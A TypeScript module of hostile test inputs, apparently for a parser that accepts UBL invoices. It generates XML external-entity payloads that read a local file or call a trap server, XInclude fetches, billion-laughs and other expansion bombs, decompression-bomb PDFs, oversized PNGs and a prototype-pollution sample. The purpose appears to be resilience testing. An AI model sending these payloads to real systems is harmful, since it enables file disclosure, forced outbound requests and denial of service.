import { deflateSync } from 'node:zlib';
import type { Trap } from './trap.ts';

export type Hostile = { readonly name: string; readonly bytes: Buffer; readonly type: string };

const MIB = 1024 ** 2;
const xml = (name: string, text: string): Hostile => ({ name, bytes: Buffer.from(text), type: 'application/xml' });
const pdf = (name: string, streams: readonly Buffer[]): Hostile => {
  const parts = streams.flatMap((stream, nth) => [
    Buffer.from(`${nth + 1} 0 obj<</Type/EmbeddedFile/Filter/FlateDecode/Length ${stream.length}>>stream\n`),
    stream,
    Buffer.from('\nendstream endobj\n'),
  ]);
  const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('%%EOF')]);
  return { name, bytes, type: 'application/pdf' };
};

const UBL = 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"';
const bill = (id: string, rest = ''): string =>
  `<Invoice ${UBL}><ID>${id}</ID><DocumentCurrencyCode>EUR</DocumentCurrencyCode><AccountingSupplierParty><Party><PartyName><Name>Parts</Name></PartyName></Party></AccountingSupplierParty>${rest}<InvoiceLine><ID>1</ID><LineExtensionAmount>1.00</LineExtensionAmount></InvoiceLine></Invoice>`;
const withType = (declared: string, id: string): string =>
  `<?xml version="1.0"?><!DOCTYPE Invoice ${declared}>${bill(id)}`;

/** Entities within entities: a billion of the first, or a long one said often. */
const laughs = Array.from({ length: 10 }, (_, nth) => `<!ENTITY l${nth + 1} "${`&l${nth};`.repeat(10)}">`).join('');

/** XML that reads foreign files, asks foreign servers, or is far larger inside than out. `trap` is a server nobody may ask. */
export const xmlBombs = ({ url: trap, file }: Pick<Trap, 'url' | 'file'>): Hostile[] => [
  xml('reads-a-file.xml', withType(`[<!ENTITY x SYSTEM "${file}">]`, '&x;')),
  xml('asks-a-server.xml', withType(`[<!ENTITY x SYSTEM "${trap}/entity">]`, '&x;')),
  xml('asks-by-parameter.xml', withType(`[<!ENTITY % x SYSTEM "${trap}/parameter">%x;]`, '1')),
  xml('asks-by-type.xml', withType(`SYSTEM "${trap}/type.dtd"`, '1')),
  xml(
    'includes.xml',
    bill(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${trap}/include" parse="text"/>`),
  ),
  xml('billion-laughs.xml', withType(`[<!ENTITY l0 "ha">${laughs}]`, '&l10;')),
  xml('long-said-often.xml', withType(`[<!ENTITY l "${'x'.repeat(60_000)}">]`, '&l;'.repeat(60_000))),
  xml(
    'many-entities.xml',
    withType(`[${Array.from({ length: 90_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')}]`, '1'),
  ),
  xml('deep.xml', bill('1', `${'<a>'.repeat(400_000)}${'</a>'.repeat(400_000)}`)),
  xml('never-closed.xml', `<Invoice ${UBL}>${'<a>'.repeat(3_000_000)}`),
  xml('many-elements.xml', bill('1', '<a/>'.repeat(2_400_000))),
  xml('many-attributes.xml', bill('1', `<a ${Array.from({ length: 600_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`)),
  xml('many-lines.xml', bill('1', '<InvoiceLine><ID>1</ID></InvoiceLine>'.repeat(250_000))),
  xml('endless-name.xml', `<${'a'.repeat(9 * MIB)}>`),
  xml('endless-comment.xml', `<?xml version="1.0"?><!--${'-'.repeat(9 * MIB)}`),
  xml(
    'endless-number.xml',
    bill('1', `<LegalMonetaryTotal><PayableAmount>${'9'.repeat(4 * MIB)}</PayableAmount></LegalMonetaryTotal>`),
  ),
  xml('proto.xml', bill('1', '<__proto__><polluted>yes</polluted></__proto__><constructor><prototype/></constructor>')),
  {
    name: 'other-letters.xml',
    bytes: Buffer.from(`\uFEFF${withType(`[<!ENTITY x SYSTEM "${file}">]`, '&x;')}`, 'utf16le'),
    type: 'text/xml',
  },
];

/** PDF whose streams unpack to thousands of times their size, or only seem to hold a bill. */
export function pdfBombs(trap: string): Hostile[] {
  const zeros = deflateSync(Buffer.alloc(5 * MIB - 1), { level: 9 });
  const larger = deflateSync(Buffer.alloc(64 * MIB), { level: 9 });
  const nearly = deflateSync(
    Buffer.concat([Buffer.alloc(4 * MIB, ' '), Buffer.from(bill('1', '<a/>'.repeat(200_000)))]),
  );
  return [
    pdf(
      'many-bombs.pdf',
      Array.from({ length: Math.floor((9 * MIB) / (zeros.length + 120)) }, () => zeros),
    ),
    pdf(
      'large-bombs.pdf',
      Array.from({ length: Math.floor((9 * MIB) / (larger.length + 120)) }, () => larger),
    ),
    pdf('packed-twice.pdf', [deflateSync(larger)]),
    pdf('late-bill.pdf', [nearly]),
    pdf('laughs.pdf', [deflateSync(Buffer.from(withType(`[<!ENTITY l0 "ha">${laughs}]`, '&l10;')))]),
    pdf('asks.pdf', [deflateSync(Buffer.from(withType(`[<!ENTITY x SYSTEM "${trap}/pdf">]`, '&x;')))]),
    { name: 'no-end.pdf', bytes: Buffer.from(`%PDF-1.7\n${'stream\n'.repeat(1_300_000)}`), type: 'application/pdf' },
    {
      name: 'only-ends.pdf',
      bytes: Buffer.from(`%PDF-1.7\n${'stream\nendstream '.repeat(500_000)}`),
      type: 'application/pdf',
    },
  ];
}

/** A number of four bytes, most significant first. */
const four = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

function png(width: number, height: number, packed: Buffer): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes: Buffer): number =>
    (bytes.reduce((sum, byte) => (crcTable[(sum ^ byte) & 255] ?? 0) ^ (sum >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
  const chunk = (name: string, body: Buffer): Buffer => {
    const named = Buffer.concat([Buffer.from(name), body]);
    return Buffer.concat([four(body.length), named, four(crc(named))]);
  };
  const head = Buffer.concat([four(width), four(height), Buffer.from([1, 0, 0, 0, 0])]);
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', packed), chunk('IEND', Buffer.alloc(0))]);
}

/** Pictures that are small as files and vast once drawn. */
export function pictureBombs(): Hostile[] {
  const line = deflateSync(Buffer.alloc(12_501 * 2_000), { level: 9 });
  return [
    { name: 'vast.png', bytes: png(100_000, 100_000, line), type: 'image/png' },
    { name: 'says-more.png', bytes: png(0x7fffffff, 0x7fffffff, line), type: 'image/png' },
    { name: 'wide.png', bytes: png(100_000, 2_000, line), type: 'image/png' },
  ];
}
